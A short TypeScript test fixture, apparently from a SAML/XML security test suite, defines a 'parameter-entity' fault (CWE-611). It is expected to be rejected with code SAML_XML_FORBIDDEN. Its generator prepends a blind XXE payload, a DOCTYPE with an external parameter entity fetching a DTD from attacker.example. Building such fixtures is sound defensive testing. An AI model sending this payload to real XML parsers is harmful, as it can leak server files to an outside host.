import type { Fault } from "../fault.ts";

export const parameterEntity: Fault = {
  name: "parameter-entity",
  family: "content",
  description: "A parameter entity fetches more declarations, which may send files away (blind XXE).",
  source: "CWE-611",
  code: "SAML_XML_FORBIDDEN",
  signed: (xml) => `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://attacker.example/evil.dtd"> %e;]>${xml}`,
};
